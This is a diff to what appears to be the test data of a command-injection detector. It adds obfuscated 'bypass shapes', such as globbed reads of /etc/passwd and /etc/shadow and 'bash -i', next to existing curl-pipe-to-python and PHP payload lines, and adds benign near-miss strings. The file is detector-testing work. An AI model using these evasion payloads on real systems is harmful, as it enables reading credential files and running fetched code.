@@ -116,7 +116,10 @@ COMMANDS = {
     "bypass shapes": [";{\\c''\\a\"\"t,/e''*?/?a?s??}", "; cat /et\u200b?/\u200bpa\u200b??wd",
                       "; cat$u+/etc$u/passwd$u", "; c\\\\a\\\\t \\\\/\\\\e\\\\t\\\\c/\\\\p\\\\a\\\\s\\\\swd",
                       "$0<<<$'\\154\\163'", "x;bash <<< id", "echo | php7.4", "curl -s http://10.0.0.9/x | python3",
-                      "/?in/cat /et?/passw?", "x\\n\\033[2curl http://10.0.0.9/a.txt"],
+                      "/?in/cat /et?/passw?", "x\\n\\033[2curl http://10.0.0.9/a.txt",
+                      # arithmetic on literals (a scanner's evaluation probe); a glob spelling a sensitive file
+                      "x;echo $((3482*7301))", "$[7*7]", "$((16#41))", "/e?c/pa[s]swd", "/[e]tc/shadow",
+                      "/usr/[a-z]in/bash -i"],
 }
 COMMAND_NEAR_MISSES = [
     "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
@@ -154,7 +157,9 @@ COMMAND_NEAR_MISSES = [
     "python3.11", "php7.4-fpm", "a; gcc-12", "python3.11 is out; node18 next", "Versions: python3.11, perl5.36",
     "C++", "a+b=c", "user+tag@example.com", "Lunch; at noon", "we meet; at 5 pm \"sharp\"", "US$5 or 6$",
     "Java | PHP | Python", "skills: cat | php", "cat|php", "price: 5$+/month", "C:\\\\Users\\\\me\\\\notes.txt",
-    "/?in/notes.txt", "{a,b*}", "Hello\u200bworld; cat food", "\\033[2J hello world", "\\033[1mbold\\033[0m",
+    "/?in/notes.txt", "{a,b*}", "Hello\u200bworld; cat food", "price $[5]", "a $((x))", "/api/v1/items?id=5",
+    "/files/[draft]/a.txt", "what? /home/me/notes", "/docs/[v2]/etc/readme",
+    "\\033[2J hello world", "\\033[1mbold\\033[0m",
 ]
 CODE_PAYLOADS = {
     "php": ["$_=(\"%28\"^\"[\").(\"%33\"^\"[\");", "$_=\"`{{{\"^\"?<>/\";", "$__++;$__++;$___.=$__;",
